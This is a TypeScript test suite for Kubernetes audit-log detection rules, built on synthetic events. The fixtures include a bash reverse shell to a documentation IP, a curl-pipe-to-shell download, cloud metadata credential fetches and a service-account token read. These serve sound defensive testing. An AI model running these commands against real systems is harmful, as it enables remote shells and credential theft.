// The corpus ES|QL rules on synthetic events (hand-built partial audit Events, read through the
// real ingest and ECS view): each fires on a true positive and stays silent on a near-miss.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Detection } from '../../src/detect/detection.js';
import { allow, at, audit, forbid, loadCorpusRule, ms, run } from './synthetic.js';

type Ev = Record<string, unknown>;

function load(rel: string): Detection {
  const r = loadCorpusRule(`kubernetes/${rel}`);
  assert.deepEqual(r.diagnostics, []);
  assert.equal(r.detections.length, 1);
  return r.detections[0]!;
}

/** A pod exec request whose URI carries `command` (URL-encoded as kubectl sends it). */
const exec = (command: string[]): Ev => ({
  verb: 'create',
  level: 'Request',
  objectRef: { resource: 'pods', subresource: 'exec', namespace: 'prod', name: 'web-1' },
  requestURI: `/api/v1/namespaces/prod/pods/web-1/exec?${command
    .map((c) => `command=${encodeURIComponent(c).replace(/%20/g, '+')}`)
    .join('&')}&container=web&stdin=true&stdout=true&tty=true`,
});
const get = (resource: string, name: string, user = 'mallory', extra: Ev = {}): Ev => ({
  verb: 'get',
  objectRef: { resource, namespace: 'prod', name },
  user: { username: user, groups: ['system:authenticated'] },
  ...extra,
});
const role = (verb: string, rules: Ev[], body: 'requestObject' | 'responseObject' = 'requestObject'): Ev => ({
  verb,
  objectRef: { resource: 'clusterroles', apiGroup: 'rbac.authorization.k8s.io', name: 'pwn' },
  user: { username: 'mallory' },
  [body]: { kind: 'ClusterRole', rules },
});
const anon = (i: number, extra: Ev = {}): Ev => ({
  verb: 'get',
  requestURI: `/api/v1/${['pods', 'secrets', 'nodes', 'configmaps', 'services', 'namespaces'][i]}?probe=${i}`,
  objectRef: { resource: ['pods', 'secrets', 'nodes', 'configmaps', 'services', 'namespaces'][i] },
  user: { username: 'system:anonymous' },
  userAgent: 'synthetic-scanner/1.0',
  ...extra,
});

/** [rule file, true-positive events, near-miss events, a column the alert must carry]. */
const cases: [string, Ev[], Ev[], string][] = [
  [
    'execution_kubernetes_pod_exec_potential_reverse_shell.toml',
    [exec(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'])],
    [exec(['bash', '-c', 'echo > /dev/tcp/localhost/8080'])],
    'Esql.executed_command',
  ],
  [
    'execution_kubernetes_pod_exec_curl_wget_https.toml',
    [exec(['sh', '-c', 'curl -s https://198.51.100.7/x.sh | sh'])],
    [exec(['sh', '-c', 'curl -s https://kubernetes.default.svc/healthz'])],
    'Esql.executed_command',
  ],
  [
    'credential_access_kubernetes_pod_exec_cloud_instance_metadata.toml',
    [exec(['curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'])],
    [exec(['curl', 'http://198.51.100.7/latest'])],
    'Esql.cloud_target',
  ],
  [
    'credential_access_kubernetes_pod_exec_sensitive_file_access.toml',
    [exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'])],
    [exec(['cat', '/etc/resolv.conf'])],
    'Esql.access_type',
  ],
  [
    'credential_access_kubernetes_multiple_secret_retrieval_burst.toml',
    [get('secrets', 'a'), get('secrets', 'b'), get('secrets', 'c')],
    [get('secrets', 'a'), get('secrets', 'b'), get('secrets', 'a')],
    'Esql.unique_credentials',
  ],
  [
    'discovery_kubernetes_multi_resource_setup_recon.toml',
    [get('pods', 'x'), get('nodes', 'x'), get('configmaps', 'x')],
    [get('pods', 'x'), get('nodes', 'x'), get('pods', 'y')],
    'Esql.unique_resources',
  ],
  [
    'credential_access_azure_arc_proxy_secret_configmap_access.toml',
    [
      get('secrets', 'db', 'system:serviceaccount:azure-arc:guard', {
        impersonatedUser: { username: 'alice' },
      }),
    ],
    [
      {
        ...get('secrets', 'db', 'system:serviceaccount:azure-arc:guard'),
        objectRef: { resource: 'secrets', namespace: 'azure-arc', name: 'db' },
      },
    ],
    'Esql.event_count',
  ],
  [
    'persistence_sensitive_role_creation_or_modification.toml',
    [role('create', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }])],
    [role('create', [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get'] }])],
    'kubernetes.audit.objectRef.name',
  ],
  [
    'privilege_escalation_role_patch_wildcard_verbs_resources_response.toml',
    [role('patch', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }], 'responseObject')],
    [role('patch', [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }], 'responseObject')],
    'user.name',
  ],
  [
    'discovery_endpoint_permission_enumeration_by_anonymous_user.toml',
    [0, 1, 2, 3, 4, 5].map((i) => anon(i, i === 5 ? { annotations: forbid } : {})),
    [0, 1, 2, 3, 4, 5].map((i) => anon(i)),
    'Esql.authz_forbid_count',
  ],
  [
    'discovery_endpoint_permission_enumeration_by_user_and_srcip.toml',
    [0, 1, 2, 3, 4, 5].map((i) => ({
      ...anon(i, i < 2 ? { annotations: forbid } : {}),
      user: { username: 'mallory' },
    })),
    [0, 1, 2, 3, 4, 5].map((i) => ({ ...anon(i), user: { username: 'mallory' } })),
    'Esql.document_count',
  ],
];

const make = (evs: Ev[]) =>
  evs.map((e, i) => audit({ annotations: allow, ...e, auditID: `synthetic-${i}` }, at(i * 0.1)));

test('the 11 corpus ES|QL rules load', () => {
  assert.equal(cases.length, 11);
});

for (const [rel, tp, miss, column] of cases) {
  test(`esql rule ${rel}: fires on a true positive, silent on a near-miss`, () => {
    const det = load(rel);
    const alerts = run(det, make(tp), ms(1)).alerts;
    assert.equal(alerts.length, 1, 'one alert');
    assert.ok(alerts[0]!.details?.[column] !== undefined, `alert carries ${column}`);
    assert.ok(alerts[0]!.events.length >= 1);
    assert.equal(run(det, make(miss), ms(1)).alerts.length, 0, 'near-miss');
  });
}

test('ES|QL: NOW() is the execution time (arc proxy rule keeps groups first seen in the last 9 minutes)', () => {
  const det = load('credential_access_azure_arc_proxy_secret_configmap_access.toml');
  const ev = audit(
    { annotations: allow, ...get('secrets', 'db', 'system:serviceaccount:azure-arc:guard') },
    at(0),
  );
  // Executions every 9m from now-5d: the execution at now = +8m sees it as first seen 8 minutes ago.
  assert.equal(run(det, [ev], ms(8)).alerts.length, 1);
  const [a] = run(det, [ev], ms(8)).alerts;
  assert.equal(a!.details?.['Esql.timestamp_first_seen'], '2026-11-20T09:00:00.000Z');
  assert.equal(a!.details?.['Esql.event_count'], 1);
});

test('ES|QL: aggregated alerts are not repeated by overlapping executions', () => {
  const det = load('credential_access_kubernetes_multiple_secret_retrieval_burst.toml');
  const evs = make([get('secrets', 'a'), get('secrets', 'b'), get('secrets', 'c')]);
  // from now-6m every 5m: executions at +1m and +6m both see the three reads.
  const { alerts } = run(det, evs, ms(6));
  assert.equal(alerts.length, 1);
  assert.equal(alerts[0]!.details?.['Esql.unique_credentials'], 3);
  assert.deepEqual(alerts[0]!.events.length, 3);
});
